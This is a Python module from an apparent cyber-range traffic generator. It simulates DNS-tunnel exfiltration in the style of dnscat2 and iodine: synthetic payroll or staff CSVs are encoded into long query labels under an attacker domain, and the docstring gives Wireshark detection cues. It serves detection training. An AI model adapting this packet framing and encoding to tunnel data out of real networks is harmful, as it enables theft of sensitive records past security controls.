"""Exfiltration over a DNS tunnel (dnscat2, iodine, DNSExfiltrator), MITRE ATT&CK T1048.003
Exfiltration Over Unencrypted Non-C2 Protocol.

Imitates a tunnel client on a compromised workstation sending a file through the office
resolver to an attacker's domain. The framing is dnscat2's: every query name carries one
packet ``packet_id(2) type(1) session_id(2) ...`` encoded in ``label_length``-character labels
(at most ``labels`` of them) under the attacker's domain, e.g.
``1c2e00a4f1...63 chars...<more labels>.cdn-kalo.xyz``:

* first a SYN (type 0: ``session_id, initial seq, options=OPT_NAME, file name\\0``),
* then one MSG per chunk (type 1: ``session_id, seq, ack, data``); ``seq`` counts bytes sent,
  like TCP, wrapping at 16 bits, so the chunks reassemble in order,
* finally a FIN (type 2: ``session_id, reason\\0``).

``encoding`` is how the packet becomes label text: ``hex`` (dnscat2's own), ``base32``
(lower case, unpadded: iodine's upstream codec, DNSExfiltrator's ``-b32``) or ``base64url``
(unpadded: DNSExfiltrator's default). The random packet id at the front makes every name
unique, so no resolver cache answers for the attacker. The data is the file as is (a CSV export
of staff or payroll records), so an analyst who decodes the labels reads what left.

The client (like dnscat2 and iodine) keeps one UDP socket for the session, so every query
leaves the same source port; each waits for its answer and the next follows at ``rate``
queries per second. The resolver relays the tunnel server's answers in ``record_type``: TXT
(the server's acknowledging packet, encoded), CNAME or MX (the encoded packet as a name under
the attacker's domain) or NULL (the raw packet, as iodine answers); every answer acknowledges
the bytes received (``ack = seq + len(data)``) with TTL 0. With ``forward: true`` the capture
also shows the resolver forwarding each query (from a fresh source port) to the attacker's
node as the domain's authoritative server, and its authoritative answer.

Wireshark shows a burst of queries from one host to the resolver for long
(``dns.qry.name.len`` around 200), high-entropy names under one domain, all of one unusual
type (``dns.qry.type`` 16 TXT, 5 CNAME, 10 NULL or 15 MX), with ``dns.txt``/``dns.cname``/
``dns.null``/``dns.mx.mail_exchange`` answers that are themselves encoded.
"""
from __future__ import annotations

import base64
import math
import struct
from typing import Literal

from pydantic import Field, model_validator

from attack_scripts import _dns
from range.core import Strict
from range.traffic import StepContext, Technique, UdpExchange, ephemeral_port, technique

SYN, MSG, FIN = 0x00, 0x01, 0x02
OPT_NAME = 0x0001
HEADER = 9  # packet_id(2) type(1) session_id(2) seq(2) ack(2)
DOMAIN_BUDGET = 40  # characters kept for the attacker's domain (ctx.names.domain() stays below)
MAX_NAME = 253

Encoding = Literal["hex", "base32", "base64url"]


def encode(encoding: str, data: bytes) -> str:
    if encoding == "hex":
        return data.hex()
    if encoding == "base32":
        return base64.b32encode(data).decode().rstrip("=").lower()
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def decode(encoding: str, text: str) -> bytes:
    if encoding == "hex":
        return bytes.fromhex(text)
    if encoding == "base32":
        t = text.upper()
        return base64.b32decode(t + "=" * (-len(t) % 8))
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def packet_bytes(encoding: str, chars: int) -> int:
    """The most bytes whose encoding fits in ``chars`` characters."""
    if encoding == "hex":
        return chars // 2
    if encoding == "base32":
        return chars * 5 // 8
    return chars * 3 // 4


def split_labels(text: str, n: int) -> list[str]:
    return [text[i:i + n] for i in range(0, len(text), n)]


class Params(Strict):
    size: int = Field(default=8192, ge=1, le=2_000_000, description="bytes of the exfiltrated file")
    encoding: Encoding = Field(default="hex", description="hex (dnscat2), base32 (iodine), base64url (DNSExfiltrator)")
    record_type: Literal["TXT", "CNAME", "NULL", "MX"] = Field(default="TXT", description="query and answer type")
    rate: float = Field(default=10, gt=0, le=200, description="queries per second")
    label_length: int = Field(default=63, ge=16, le=63, description="characters per data label")
    labels: int = Field(default=3, ge=1, le=4, description="data labels per query name")
    forward: bool = Field(default=False, description="also show the resolver asking the attacker's node "
                                                     "(the domain's authoritative server)")

    @model_validator(mode="after")
    def _fits(self) -> "Params":
        used = self.labels * (self.label_length + 1)
        if used + DOMAIN_BUDGET > MAX_NAME:
            raise ValueError(f"{self.labels} labels of {self.label_length} characters make query names longer "
                             f"than DNS allows ({MAX_NAME} characters with the domain); use fewer or shorter labels")
        if self.chunk < 8:
            raise ValueError(f"{self.labels} label(s) of {self.label_length} {self.encoding} characters leave "
                             f"{max(self.chunk, 0)} bytes of data per query after the {HEADER}-byte header; "
                             f"use more or longer labels")
        return self

    @property
    def chunk(self) -> int:
        """File bytes carried by one query."""
        return packet_bytes(self.encoding, self.labels * self.label_length) - HEADER

    @property
    def queries(self) -> int:
        return 2 + math.ceil(self.size / self.chunk)  # SYN, MSGs, FIN


_KINDS = {
    "payroll": "employee_id,full_name,department,iban,gross_salary_eur,net_salary_eur",
    "staff_register": "id,username,full_name,email,phone,department,clearance",
    "procurement": "contract_no,supplier,contact_email,amount_eur,signed_by,status",
}
_DEPTS = ["finance", "legal", "it", "hr", "procurement", "cabinet", "audit", "registry"]


def document(rng, names, domain: str, size: int) -> tuple[str, bytes]:
    """A plausible office export of exactly ``size`` bytes and its file name."""
    kind = rng.choice(list(_KINDS))
    lines = [_KINDS[kind]]
    n = 0
    while sum(len(x) + 1 for x in lines) < size:
        n += 1
        user = names.username()
        full = " ".join(p.capitalize() for p in user.split("."))
        dept = rng.choice(_DEPTS)
        if kind == "payroll":
            gross = rng.randint(900, 4200)
            lines.append(f"{1000 + n},{full},{dept},AL{rng.randint(10, 99)}{rng.randint(10**19, 10**20 - 1)},"
                         f"{gross}.00,{gross * 0.72:.2f}")
        elif kind == "staff_register":
            lines.append(f"{n},{user},{full},{user}@{domain},+355 4{rng.randint(2000000, 2999999)},{dept},"
                         f"{rng.choice(['none', 'restricted', 'confidential', 'secret'])}")
        else:
            lines.append(f"PR-2026-{rng.randint(100, 999)}-{n},{names.label(3).capitalize()} sh.p.k.,"
                         f"tenders@{names.label(2)}.al,{rng.randint(5, 900) * 1000},{full},"
                         f"{rng.choice(['signed', 'pending', 'paid'])}")
    data = ("\n".join(lines) + "\n").encode()[:size]
    return f"{kind}_2026_{names.token(4)}.csv", data


@technique
class DnsTunnelExfil(Technique):
    name = "dns_tunnel_exfil"
    attack = "T1048.003"
    tactic = "exfiltration"
    summary = "dnscat2/iodine-style DNS tunnel carrying a file out in long encoded query names"
    Params = Params
    min_targets = 1
    max_targets = 1
    target_services = ("dns",)

    def duration(self, p: Params) -> float:
        return p.queries * 1.15 / p.rate + 1.0

    def generate(self, ctx: StepContext):
        p: Params = ctx.params
        r = ctx.rng
        resolver = ctx.targets[0]
        client = ctx.source
        domain = ctx.names.domain()
        fname, data = document(r, ctx.names, ctx.domain, p.size)
        session = r.getrandbits(16)
        seq = r.getrandbits(16)
        srv_seq = r.getrandbits(16)
        auth = ctx.layout.host(ctx.layout.env.spec.attacker) if p.forward else None
        if auth is not None and auth.ip in (resolver.ip, client.ip):
            auth = None

        def name_of(packet: bytes) -> str:
            qname = ".".join(split_labels(encode(p.encoding, packet), p.label_length) + [domain])
            assert len(qname) <= MAX_NAME, qname
            return qname

        def answer(qname: str, packet: bytes) -> list:
            if p.record_type == "TXT":
                return [(qname, "TXT", _dns.txt_strings(encode(p.encoding, packet)), 0)]
            if p.record_type == "NULL":
                return [(qname, "NULL", packet, 0)]
            target = ".".join(split_labels(encode(p.encoding, packet), 63) + [domain])
            if p.record_type == "MX":
                return [(qname, "MX", (10, target), 0)]
            return [(qname, "CNAME", target, 0)]

        name_room = packet_bytes(p.encoding, p.labels * p.label_length) - 8  # SYN header + NUL
        exchanges: list[tuple[bytes, bytes]] = []  # (client packet, server packet)
        syn = struct.pack("!HBHHH", r.getrandbits(16), SYN, session, seq, OPT_NAME) + fname.encode()[:name_room] + b"\0"
        exchanges.append((syn, struct.pack("!HBHHH", r.getrandbits(16), SYN, session, srv_seq, 0)))
        for off in range(0, len(data), p.chunk):
            chunk = data[off:off + p.chunk]
            msg = struct.pack("!HBHHH", r.getrandbits(16), MSG, session, seq, srv_seq) + chunk
            seq = (seq + len(chunk)) & 0xFFFF
            exchanges.append((msg, struct.pack("!HBHHH", r.getrandbits(16), MSG, session, srv_seq, seq)))
        exchanges.append((struct.pack("!HBH", r.getrandbits(16), FIN, session) + b"\0",
                          struct.pack("!HBH", r.getrandbits(16), FIN, session) + b"\0"))

        messages = []
        prev = ctx.t0  # time of the last event on the client's socket
        t = ctx.t0
        for cpkt, spkt in exchanges:
            qname = name_of(cpkt)
            txid = r.getrandbits(16)
            lat = r.uniform(0.002, min(0.08, 0.8 / p.rate))
            ans = answer(qname, spkt)
            messages.append((t - prev, "c", _dns.query(txid, qname, p.record_type)))
            messages.append((lat, "s", _dns.response(txid, qname, p.record_type, ans)))
            prev = t + lat
            if auth is not None:
                up = r.getrandbits(16)
                out_at, back = lat * r.uniform(0.05, 0.2), lat * r.uniform(0.75, 0.95)
                yield UdpExchange(t=t + out_at, client=resolver.ip, server=auth.ip, sport=ephemeral_port(r),
                                  dport=53, messages=[
                                      (0.0, "c", _dns.query(up, qname, p.record_type, rd=False)),
                                      (back - out_at, "s", _dns.response(up, qname, p.record_type, ans,
                                                                         aa=True, rd=False, ra=False)),
                                  ])
            t += r.uniform(0.85, 1.15) / p.rate
        yield UdpExchange(t=ctx.t0, client=client.ip, server=resolver.ip, sport=ephemeral_port(r), dport=53,
                          messages=messages)
